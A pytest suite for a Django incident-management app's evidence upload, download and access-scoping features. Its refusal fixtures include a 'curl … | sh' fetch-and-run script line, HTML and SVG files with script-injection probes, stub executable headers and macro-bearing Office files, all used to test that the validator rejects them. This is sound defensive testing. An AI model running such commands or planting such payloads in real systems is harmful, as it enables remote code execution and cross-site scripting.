"""Evidence attachments: content sniffing (no database), the attach and download services,
the browser views and the API endpoints, and their scoping per role."""

import hashlib
import io
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template.loader import render_to_string
from django.test import Client

from breachdesk.models import AuditEvent
from incidents.evidence import MISMATCH, sniff_content_type
from incidents.models import Evidence, Incident
from incidents.services import action_create, evidence_attach, incident_add_note
from incidents.services.evidence import evidence_open
from incidents.views.evidence import evidence_context
from tests.factories import IncidentFactory

# --- sample files --------------------------------------------------------------------------


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _ooxml(folder: str, *extra: str) -> bytes:
    members = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>"}
    members[f"{folder}/main.xml"] = b"<doc/>"
    members.update(dict.fromkeys(extra, b"\x00"))
    return _zip(members)


def _odf(mimetype: str) -> bytes:
    return _zip({"mimetype": mimetype.encode(), "content.xml": b"<office:document-content/>"})


def _ole2(*streams: str) -> bytes:
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    directory = b"".join(s.encode("utf-16-le").ljust(128, b"\x00") for s in ("Root Entry", *streams))
    return header + directory + b"\x00" * 1024


PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00;"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
EML = (
    b"Return-Path: <sender@example.org>\r\nReceived: from mx.example.org by mail.example.org;\r\n"
    b"\tMon, 2 Nov 2026 09:00:00 +0000\r\nFrom: Sender <sender@example.org>\r\nTo: wrong@example.com\r\n"
    b"Subject: Case list\r\nDate: Mon, 2 Nov 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n\r\n"
    b"<html><body>The case list is attached.</body></html>\r\n"
)
TXT = "Called the recipient at 10:15; they confirmed deletion. Café.\n".encode()
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SCRIPT = b"#!/bin/sh\ncurl https://example.com/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ZIP = _zip({"case-list.csv": b"name,address\n"})

ACCEPTED = [
    ("report.pdf", PDF, "application/pdf"),
    ("photo.png", PNG, "image/png"),
    ("photo.jpg", JPEG, "image/jpeg"),
    ("PHOTO.JPEG", JPEG, "image/jpeg"),
    ("anim.gif", GIF, "image/gif"),
    ("shot.webp", WEBP, "image/webp"),
    ("letter.docx", _ooxml("word"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("list.xlsx", _ooxml("xl"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("slides.pptx", _ooxml("ppt"), "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    ("letter.odt", _odf("application/vnd.oasis.opendocument.text"), "application/vnd.oasis.opendocument.text"),
    (
        "list.ods",
        _odf("application/vnd.oasis.opendocument.spreadsheet"),
        "application/vnd.oasis.opendocument.spreadsheet",
    ),
    (
        "slides.odp",
        _odf("application/vnd.oasis.opendocument.presentation"),
        "application/vnd.oasis.opendocument.presentation",
    ),
    ("old.doc", _ole2("WordDocument"), "application/msword"),
    ("old.xls", _ole2("Workbook"), "application/vnd.ms-excel"),
    ("old.ppt", _ole2("PowerPoint Document"), "application/vnd.ms-powerpoint"),
    ("mail.msg", _ole2("__substg1.0_0037001F"), "application/vnd.ms-outlook"),
    ("mail.eml", EML, "message/rfc822"),
    ("thunderbird.eml", b"From - Mon Nov  2 09:00:00 2026\r\n" + EML, "message/rfc822"),
    ("notes.txt", TXT, "text/plain"),
    ("email-as-text.txt", EML, "text/plain"),
    (r"C:\Users\me\Desktop\report.pdf", PDF, "application/pdf"),
]

# (name, content, a phrase the message must contain)
REFUSED = [
    ("empty.pdf", b"", "The selected file is empty"),
    ("tool.exe", EXE, "Programs, scripts and files with macros (.exe) cannot be attached"),
    ("report.pdf", EXE, f"{MISMATCH}: it is named as a PDF but it is a Windows program"),
    ("report.pdf", ELF, f"{MISMATCH}: it is named as a PDF but it is a Linux program"),
    ("photo.png", PDF, f"{MISMATCH}: it is named as a PNG image but it looks like a PDF"),
    ("report.pdf", PNG, f"{MISMATCH}: it is named as a PDF but it looks like a PNG image"),
    ("case-list.zip", ZIP, "Archives (.zip) cannot be attached"),
    ("letter.docx", ZIP, f"{MISMATCH}: it is named as a Word document but it is a zip archive"),
    ("report.pdf", ZIP, f"{MISMATCH}: it is named as a PDF but it is an archive"),
    ("notes.txt", b"\x1f\x8b\x08\x00" + b"\x00" * 20, f"{MISMATCH}: it is named as a text file but it is an archive"),
    ("page.html", HTML, "Web pages, SVG images, XML and JavaScript files (.html) cannot be attached"),
    ("icon.svg", SVG, "(.svg) cannot be attached"),
    ("app.js", b"alert(1)", "(.js) cannot be attached"),
    ("notes.txt", HTML, f"{MISMATCH}: it is named as a text file but it is a web page"),
    ("notes.txt", SVG, f"{MISMATCH}: it is named as a text file but it is a web page"),
    ("letter.docx", _ooxml("word", "word/vbaProject.bin"), "Office files with macros cannot be attached"),
    ("letter.docm", _ooxml("word", "word/vbaProject.bin"), "(.docm) cannot be attached"),
    ("old.xls", _ole2("Workbook", "_VBA_PROJECT_CUR"), "Office files with macros cannot be attached"),
    ("letter.odt", _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/x.xml": b""}), "macros"),
    ("run.sh", SCRIPT, "Programs, scripts and files with macros (.sh) cannot be attached"),
    ("notes.txt", SCRIPT, f"{MISMATCH}: it is named as a text file but it is a script"),
    ("list.xlsx", _ooxml("word"), f"{MISMATCH}: it is named as an Excel workbook but it looks like a Word document"),
    ("old.doc", _ole2("Workbook"), f"{MISMATCH}: it is named as a Word 97-2003 document but it looks like an Excel"),
    ("setup.doc", _ole2("SummaryInformation"), f"{MISMATCH}: it is named as a Word 97-2003 document but it is some"),
    ("locked.xlsx", _ole2("EncryptedInfo", "EncryptedPackage"), "Password-protected office files cannot be checked"),
    ("mail.eml", TXT, f"{MISMATCH}: it is named as an email but it does not start with email headers"),
    ("notes.txt", "Café".encode("latin-1"), "The text file is not saved as UTF-8"),
    ("notes.txt", "Notes".encode("utf-16"), "The text is saved as UTF-16"),
    ("notes.txt", b"abc\x00def", f"{MISMATCH}: it is named as a text file but it is not a format"),
    ("picture.bmp", b"BM\x00\x00", "Files ending .bmp cannot be attached. Attach PDF, images"),
    ("README", TXT, "The file name must end with its type, such as .pdf"),
]


# --- sniffing (no database) ----------------------------------------------------------------


@pytest.mark.parametrize(("name", "content", "content_type"), ACCEPTED)
def test_each_allowed_type_is_accepted(name, content, content_type):
    file = io.BytesIO(content)
    assert sniff_content_type(file, name) == content_type
    assert file.tell() == 0  # left ready to be hashed and stored


@pytest.mark.parametrize(("name", "content", "message"), REFUSED)
def test_each_refusal_names_the_problem(name, content, message):
    with pytest.raises(ValidationError) as caught:
        sniff_content_type(io.BytesIO(content), name)
    assert message in caught.value.messages[0]


def test_signatures_past_the_first_chunk_are_found_by_the_ole2_scan():
    # the stream names may sit anywhere in a large file, across a read boundary
    content = _ole2() + b"\x00" * (1024 * 1024 - 600) + "WordDocument".encode("utf-16-le") + b"\x00" * 100
    assert sniff_content_type(io.BytesIO(content), "big.doc") == "application/msword"


def test_text_is_checked_as_utf8_to_the_end():
    content = b"a" * (3 * 1024 * 1024) + "é".encode()
    assert sniff_content_type(io.BytesIO(content), "long.txt") == "text/plain"
    with pytest.raises(ValidationError, match="UTF-8"):
        sniff_content_type(io.BytesIO(b"a" * (3 * 1024 * 1024) + b"\xe9"), "long.txt")


# --- the service ---------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def evidence_root(settings, tmp_path):
    root = tmp_path / "evidence"
    settings.EVIDENCE_ROOT = root
    return root


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def upload(name="report.pdf", content=PDF, content_type="application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.fixture
def incident(org):
    return IncidentFactory(reporter=org["reporter"])


@pytest.mark.django_db
def test_an_accepted_file_is_stored_outside_the_web_root_hashed_and_audited(org, incident, evidence_root, settings):
    # when
    evidence = evidence_attach(incident=incident, actor=org["reporter"], upload=upload())
    # then
    evidence.refresh_from_db()
    (path,) = stored_files(evidence_root)
    assert path.read_bytes() == PDF
    assert path == Path(evidence_root) / evidence.file.name
    for public in (settings.STATIC_ROOT, settings.MEDIA_ROOT):
        assert not path.resolve().is_relative_to(Path(public).resolve())
    assert "report" not in path.name  # a random name: nothing the uploader chose reaches the disk
    assert path.stat().st_mode & 0o777 == 0o640  # not readable by other accounts on the host
    assert incident.timeline.filter(kind="plan", body__startswith="Evidence attached: report.pdf").exists()
    assert (evidence.original_name, evidence.content_type, evidence.size) == ("report.pdf", "application/pdf", len(PDF))
    assert evidence.sha256 == hashlib.sha256(PDF).hexdigest()
    assert (evidence.uploaded_by, evidence.action, evidence.note) == (org["reporter"], None, None)
    event = AuditEvent.objects.get(action="evidence.attached")
    assert (event.actor, event.incident_ref, event.object_id) == (org["reporter"], incident.reference, str(evidence.pk))
    assert event.after == {
        "name": "report.pdf",
        "content_type": "application/pdf",
        "size": len(PDF),
        "sha256": evidence.sha256,
        "action": None,
        "note": None,
    }


def assert_nothing_stored(root, audit_before):
    assert not Evidence.objects.exists()
    assert stored_files(root) == []
    assert AuditEvent.objects.count() == audit_before
    assert not AuditEvent.objects.filter(action__startswith="evidence.").exists()


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content", "message"), REFUSED)
def test_a_refused_file_leaves_nothing_behind(org, incident, evidence_root, name, content, message):
    before = AuditEvent.objects.count()
    with pytest.raises(ValidationError) as caught:
        evidence_attach(incident=incident, actor=org["reporter"], upload=upload(name, content))
    assert message in caught.value.message_dict["file"][0]
    assert_nothing_stored(evidence_root, before)


@pytest.mark.django_db
def test_an_oversized_file_is_refused_with_the_limit(org, incident, evidence_root, settings):
    settings.EVIDENCE_MAX_BYTES = 1024 * 1024
    before = AuditEvent.objects.count()
    big = PDF + b"0" * (1024 * 1024)
    with pytest.raises(ValidationError) as caught:
        evidence_attach(incident=incident, actor=org["reporter"], upload=upload(content=big))
    assert caught.value.message_dict == {"file": ["The file must be 1 MB or smaller"]}
    assert_nothing_stored(evidence_root, before)
    # exactly at the limit is fine
    evidence_attach(incident=incident, actor=org["reporter"], upload=upload(content=big[: 1024 * 1024]))


@pytest.mark.django_db
def test_a_failure_after_the_file_was_written_removes_it(org, incident, evidence_root, monkeypatch):
    before = AuditEvent.objects.count()

    def broken(**kwargs):
        raise RuntimeError("audit store unavailable")

    monkeypatch.setattr("incidents.services.evidence.audit_record", broken)
    with pytest.raises(RuntimeError):
        evidence_attach(incident=incident, actor=org["reporter"], upload=upload())
    assert_nothing_stored(evidence_root, before)


@pytest.mark.django_db
def test_attached_to_an_action_or_a_note_of_the_same_incident_only(org, incident, evidence_root):
    action = action_create(
        incident=incident, actor=org["isim"], kind="containment", description="Recall the email", owner=org["manager"]
    )
    note = incident_add_note(incident=incident, author=org["reporter"], body="Rang the recipient.")
    other = IncidentFactory(reporter=org["reporter"])
    other_note = incident_add_note(incident=other, author=org["reporter"], body="Elsewhere.")
    # given the right parents, it is attached to them
    to_action = evidence_attach(incident=incident, actor=org["manager"], upload=upload(), action=action)
    to_note = evidence_attach(incident=incident, actor=org["reporter"], upload=upload(), note=note)
    assert (to_action.action, to_note.note) == (action, note)
    # a note of another incident, or a timeline entry that is not a note, or both parents
    reported = incident.timeline.get(kind="reported")
    before = (Evidence.objects.count(), len(stored_files(evidence_root)), AuditEvent.objects.count())
    for kwargs, field in (
        ({"note": other_note}, "note"),
        ({"note": reported}, "note"),
        ({"action": action, "note": note}, "__all__"),
    ):
        with pytest.raises(ValidationError) as caught:
            evidence_attach(incident=incident, actor=org["reporter"], upload=upload(), **kwargs)
        assert field in caught.value.message_dict
    assert (Evidence.objects.count(), len(stored_files(evidence_root)), AuditEvent.objects.count()) == before


@pytest.mark.django_db
def test_a_closed_incident_refuses_new_attachments(org, incident, evidence_root):
    # given (closing needs the whole plan; the rule only looks at the status)
    Incident.objects.filter(pk=incident.pk).update(status="closed")
    incident.refresh_from_db()
    before = AuditEvent.objects.count()
    with pytest.raises(ValidationError) as caught:
        evidence_attach(incident=incident, actor=org["siro"], upload=upload())
    assert caught.value.message_dict == {"__all__": ["The incident is closed: re-open it to attach evidence"]}
    assert_nothing_stored(evidence_root, before)


@pytest.mark.django_db
def test_opening_a_file_records_who_took_a_copy(org, incident):
    evidence = evidence_attach(incident=incident, actor=org["reporter"], upload=upload())
    with evidence_open(evidence=evidence, actor=org["dpo"]) as handle:
        assert handle.read() == PDF
    event = AuditEvent.objects.get(action="evidence.downloaded")
    assert (event.actor, event.object_id, event.incident_ref) == (org["dpo"], str(evidence.pk), incident.reference)
    assert event.after == {"name": "report.pdf", "sha256": evidence.sha256}


# --- browser -------------------------------------------------------------------------------

SEE = ["reporter", "manager", "isim", "siro"]
HIDDEN = ["reporter2", "manager2"]


def browser(org, username):
    client = Client()
    client.force_login(org[username])
    return client


def page_add(incident):
    return f"/incidents/{incident.reference}/evidence/"


def page_download(incident, evidence):
    return f"/incidents/{incident.reference}/evidence/{evidence.pk}/"


def body_of(response):
    return b"".join(response.streaming_content)


@pytest.mark.django_db
@pytest.mark.parametrize("username", SEE)
def test_browser_attach_and_download_for_those_who_see_the_incident(org, incident, evidence_root, username):
    client = browser(org, username)
    # when
    response = client.post(page_add(incident), {"evidence-file": upload("Letter (final).pdf")})
    # then
    assert response.status_code == 302
    assert response["Location"] == f"/incidents/{incident.reference}/#evidence"
    evidence = Evidence.objects.get()
    assert (evidence.uploaded_by.username, evidence.original_name) == (username, "Letter (final).pdf")
    followed = client.get(response["Location"])
    assert "Letter (final).pdf attached." in followed.content.decode()
    # and the file comes back as a download, byte for byte
    download = client.get(page_download(incident, evidence))
    assert download.status_code == 200
    assert body_of(download) == PDF
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Disposition"].startswith("attachment;")
    assert "Letter (final).pdf" in download["Content-Disposition"]
    assert AuditEvent.objects.filter(action="evidence.downloaded", actor=org[username]).count() == 1


@pytest.mark.django_db
def test_browser_large_upload_spooled_to_disk_is_stored_whole(org, incident, evidence_root, settings):
    # above FILE_UPLOAD_MAX_MEMORY_SIZE Django hands over a temporary file, not memory
    content = PDF + bytes(range(256)) * (12 * 1024)
    assert len(content) > settings.FILE_UPLOAD_MAX_MEMORY_SIZE
    response = browser(org, "reporter").post(page_add(incident), {"evidence-file": upload("scan.pdf", content)})
    assert response.status_code == 302
    evidence = Evidence.objects.get()
    (path,) = stored_files(evidence_root)
    assert path.read_bytes() == content
    assert (evidence.size, evidence.sha256) == (len(content), hashlib.sha256(content).hexdigest())


@pytest.mark.django_db
def test_browser_download_of_a_file_missing_from_the_store_is_404_and_not_audited(org, incident, evidence_root):
    evidence = evidence_attach(incident=incident, actor=org["reporter"], upload=upload())
    (evidence_root / evidence.file.name).unlink()
    client = browser(org, "reporter")
    before = AuditEvent.objects.count()
    assert client.get(page_download(incident, evidence)).status_code == 404
    assert AuditEvent.objects.count() == before


@pytest.mark.django_db
@pytest.mark.parametrize("username", HIDDEN)
def test_browser_pages_are_404_outside_scope(org, incident, evidence_root, username):
    evidence = evidence_attach(incident=incident, actor=org["reporter"], upload=upload())
    client = browser(org, username)
    before = AuditEvent.objects.count()
    assert client.post(page_add(incident), {"evidence-file": upload()}).status_code == 404
    assert client.get(page_download(incident, evidence)).status_code == 404
    assert Evidence.objects.count() == 1
    assert len(stored_files(evidence_root)) == 1
    assert AuditEvent.objects.count() == before  # no download recorded either


@pytest.mark.django_db
def test_browser_download_of_another_incidents_file_is_404(org, incident):
    other = IncidentFactory(reporter=org["reporter"])
    evidence = evidence_attach(incident=other, actor=org["reporter"], upload=upload())
    client = browser(org, "reporter")
    assert client.get(page_download(incident, evidence)).status_code == 404
    assert client.get(f"/incidents/{incident.reference}/evidence/999999/").status_code == 404
    assert client.get(page_add(incident)).status_code == 405


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("tool.exe", EXE, "Programs, scripts and files with macros (.exe) cannot be attached"),
        ("report.pdf", EXE, MISMATCH),
        ("photo.png", PDF, MISMATCH),
        ("case-list.zip", ZIP, "Archives (.zip) cannot be attached"),
        ("page.html", HTML, "Web pages"),
        ("letter.docx", _ooxml("word", "word/vbaProject.bin"), "Office files with macros cannot be attached"),
        ("notes.txt", SCRIPT, MISMATCH),
        ("empty.pdf", b"", "The selected file is empty"),
    ],
)
def test_browser_refusal_shows_the_error_summary_and_stores_nothing(
    org, incident, evidence_root, name, content, message
):
    client = browser(org, "reporter")  # signing in is audited too
    before = AuditEvent.objects.count()
    response = client.post(page_add(incident), {"evidence-file": upload(name, content)})
    assert response.status_code == 400
    html = response.content.decode()
    assert 'class="govuk-error-summary"' in html
    assert 'href="#id_evidence-file"' in html
    assert message.replace("'", "&#x27;") in html
    assert 'enctype="multipart/form-data"' in html
    assert_nothing_stored(evidence_root, before)


@pytest.mark.django_db
def test_browser_oversized_and_missing_file(org, incident, evidence_root, settings):
    settings.EVIDENCE_MAX_BYTES = 1024
    client = browser(org, "reporter")
    before = AuditEvent.objects.count()
    response = client.post(page_add(incident), {"evidence-file": upload(content=PDF + b"0" * 1024)})
    assert response.status_code == 400
    assert "The file must be 1,024 bytes or smaller" in response.content.decode()
    response = client.post(page_add(incident), {})
    assert response.status_code == 400
    assert "Choose a file to attach" in response.content.decode()
    assert_nothing_stored(evidence_root, before)


@pytest.mark.django_db
def test_browser_attach_to_an_action_and_refusal_when_closed(org, incident, evidence_root):
    action = action_create(
        incident=incident, actor=org["isim"], kind="containment", description="Recall the email", owner=org["manager"]
    )
    client = browser(org, "manager")
    response = client.post(page_add(incident), {"evidence-file": upload(), "evidence-attach_to": f"action-{action.pk}"})
    assert response.status_code == 302
    assert Evidence.objects.get().action == action
    # an action of another incident is not a choice here
    other = IncidentFactory(reporter=org["reporter"])
    foreign = action_create(
        incident=other, actor=org["isim"], kind="containment", description="Elsewhere", owner=org["manager"]
    )
    response = client.post(
        page_add(incident), {"evidence-file": upload(), "evidence-attach_to": f"action-{foreign.pk}"}
    )
    assert response.status_code == 400
    assert "Choose the incident, one of its actions or one of its notes" in response.content.decode()
    # closed
    Incident.objects.filter(pk=incident.pk).update(status="closed")
    response = client.post(page_add(incident), {"evidence-file": upload()})
    assert response.status_code == 400
    assert "The incident is closed: re-open it to attach evidence" in response.content.decode()
    assert Evidence.objects.count() == 1
    assert len(stored_files(evidence_root)) == 1


@pytest.mark.django_db
def test_the_incident_page_include_lists_files_and_offers_the_form(org, incident, django_assert_num_queries):
    action = action_create(
        incident=incident, actor=org["isim"], kind="containment", description="Recall the email", owner=org["manager"]
    )
    note = incident_add_note(incident=incident, author=org["reporter"], body="Rang the recipient.")
    evidence_attach(incident=incident, actor=org["reporter"], upload=upload())
    with django_assert_num_queries(3):
        context = evidence_context(incident)
    evidence_attach(incident=incident, actor=org["manager"], upload=upload("list.xlsx", _ooxml("xl")), action=action)
    evidence_attach(incident=incident, actor=org["reporter"], upload=upload("notes.txt", TXT), note=note)
    with django_assert_num_queries(3):  # however many files
        context = evidence_context(incident)
    with django_assert_num_queries(0):
        html = render_to_string("incidents/_evidence.html", {"incident": incident, **context})
    first = context["evidence"][0]
    assert '<h3 class="govuk-heading-s" id="evidence">Evidence</h3>' in html
    assert f'href="/incidents/{incident.reference}/evidence/{first.pk}/"' in html
    assert "Excel workbook" in html
    assert "Action: Recall the email" in html
    assert "Note of" in html
    assert f"{first.sha256[:12]}…" in html
    assert f'<span class="govuk-visually-hidden">{first.sha256}</span>' in html
    assert 'enctype="multipart/form-data"' in html
    assert 'class="govuk-file-upload"' in html
    assert 'id="id_evidence-file-hint"' in html
    assert "Up to 20 MB" in html
    assert f'value="note-{note.pk}"' in html


@pytest.mark.django_db
def test_the_include_on_a_closed_incident_says_why_there_is_no_form(org, incident):
    Incident.objects.filter(pk=incident.pk).update(status="closed")
    incident.refresh_from_db()
    html = render_to_string("incidents/_evidence.html", {"incident": incident, **evidence_context(incident)})
    assert "No files attached yet." in html
    assert "The incident is closed: re-open it to attach evidence." in html
    assert "<form" not in html


# --- API -----------------------------------------------------------------------------------


def api_list(incident):
    return f"/api/v1/incidents/{incident.reference}/evidence/"


def api_download(incident, evidence_id):
    return f"/api/v1/incidents/{incident.reference}/evidence/{evidence_id}/download/"


@pytest.mark.django_db
@pytest.mark.parametrize("username", SEE)
def test_api_upload_list_and_download(org, incident, api_client_for, evidence_root, username):
    client = api_client_for(username)
    response = client.post(api_list(incident), {"file": upload("photo.png", PNG, "image/png")}, format="multipart")
    assert response.status_code == 201, response.json()
    body = response.json()
    assert set(body) == {
        "id", "original_name", "content_type", "size", "sha256", "uploaded_by", "uploaded_at", "action", "note",
        "download_url",
    }  # fmt: skip
    assert (body["original_name"], body["content_type"], body["size"]) == ("photo.png", "image/png", len(PNG))
    assert (body["sha256"], body["uploaded_by"]) == (hashlib.sha256(PNG).hexdigest(), username)
    assert body["download_url"] == f"http://testserver{api_download(incident, body['id'])}"
    assert [e["id"] for e in client.get(api_list(incident)).json()] == [body["id"]]
    download = client.get(api_download(incident, body["id"]), HTTP_ACCEPT="image/png")
    assert download.status_code == 200
    assert body_of(download) == PNG
    assert (download["Content-Type"], download["X-Content-Type-Options"]) == ("image/png", "nosniff")
    assert download["Content-Disposition"] == 'attachment; filename="photo.png"'
    assert AuditEvent.objects.filter(action="evidence.downloaded", actor=org[username]).count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("username", HIDDEN)
def test_api_is_404_outside_scope(org, incident, api_client_for, evidence_root, username):
    evidence = evidence_attach(incident=incident, actor=org["reporter"], upload=upload())
    client = api_client_for(username)
    before = AuditEvent.objects.count()
    assert client.get(api_list(incident)).status_code == 404
    assert client.post(api_list(incident), {"file": upload()}, format="multipart").status_code == 404
    assert client.get(api_download(incident, evidence.pk)).status_code == 404
    assert (Evidence.objects.count(), len(stored_files(evidence_root)), AuditEvent.objects.count()) == (1, 1, before)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("tool.exe", EXE, "(.exe) cannot be attached"),
        ("report.pdf", EXE, MISMATCH),
        ("photo.png", PDF, MISMATCH),
        ("case-list.zip", ZIP, "Archives"),
        ("page.html", HTML, "Web pages"),
        ("letter.docx", _ooxml("word", "word/vbaProject.bin"), "macros"),
        ("notes.txt", SCRIPT, MISMATCH),
        ("empty.pdf", b"", "The selected file is empty"),
    ],
)
def test_api_refusal_names_the_file_field_and_stores_nothing(
    org, incident, api_client_for, evidence_root, name, content, message
):
    before = AuditEvent.objects.count()
    response = api_client_for("reporter").post(api_list(incident), {"file": upload(name, content)}, format="multipart")
    assert response.status_code == 400
    assert set(response.json()) == {"file"}
    assert message in response.json()["file"][0]
    assert_nothing_stored(evidence_root, before)


@pytest.mark.django_db
def test_api_bad_parents_oversize_and_closed(org, incident, api_client_for, evidence_root, settings):
    client = api_client_for("isim")
    other = IncidentFactory(reporter=org["reporter"])
    foreign = action_create(
        incident=other, actor=org["isim"], kind="containment", description="Elsewhere", owner=org["manager"]
    )
    before = AuditEvent.objects.count()
    response = client.post(api_list(incident), {"file": upload(), "action": foreign.pk}, format="multipart")
    assert response.status_code == 400
    assert response.json() == {"action": [f"This incident has no action with id {foreign.pk}"]}
    assert client.post(api_list(incident), {}, format="multipart").json() == {"file": ["Choose a file to attach"]}
    settings.EVIDENCE_MAX_BYTES = 2 * 1024 * 1024
    big = upload(content=PDF + b"0" * (2 * 1024 * 1024))
    response = client.post(api_list(incident), {"file": big}, format="multipart")
    assert response.json() == {"file": ["The file must be 2 MB or smaller"]}
    Incident.objects.filter(pk=incident.pk).update(status="closed")
    response = client.post(api_list(incident), {"file": upload()}, format="multipart")
    assert response.status_code == 400
    assert response.json() == {"non_field_errors": ["The incident is closed: re-open it to attach evidence"]}
    assert_nothing_stored(evidence_root, before)


@pytest.mark.django_db
def test_api_attach_to_a_note(org, incident, api_client_for):
    note = incident_add_note(incident=incident, author=org["reporter"], body="Rang the recipient.")
    response = api_client_for("reporter").post(
        api_list(incident), {"file": upload("mail.eml", EML), "note": note.pk}, format="multipart"
    )
    assert response.status_code == 201, response.json()
    assert (response.json()["note"], response.json()["action"], response.json()["content_type"]) == (
        note.pk,
        None,
        "message/rfc822",
    )


@pytest.mark.django_db
def test_api_download_of_another_incidents_file_is_404(org, incident, api_client_for):
    other = IncidentFactory(reporter=org["reporter"])
    evidence = evidence_attach(incident=other, actor=org["reporter"], upload=upload())
    assert api_client_for("reporter").get(api_download(incident, evidence.pk)).status_code == 404


# token, roles, line-managed staff, notifications probe, units below, incident, its deadlines,
# the evidence with uploader: none of them per file.
QUERY_BUDGET = 8


@pytest.mark.django_db
def test_api_list_queries_do_not_grow_per_file(org, incident, api_client_for, django_assert_max_num_queries):
    client = api_client_for("manager")
    action = action_create(
        incident=incident, actor=org["isim"], kind="containment", description="Recall the email", owner=org["manager"]
    )
    evidence_attach(incident=incident, actor=org["reporter"], upload=upload())
    client.get(api_list(incident))  # warm up
    with django_assert_max_num_queries(QUERY_BUDGET) as one:
        assert len(client.get(api_list(incident)).json()) == 1
    for n in range(5):
        evidence_attach(
            incident=incident, actor=org["manager"], upload=upload(f"p{n}.png", PNG), action=action if n % 2 else None
        )
    with django_assert_max_num_queries(len(one.captured_queries)):
        assert len(client.get(api_list(incident)).json()) == 6
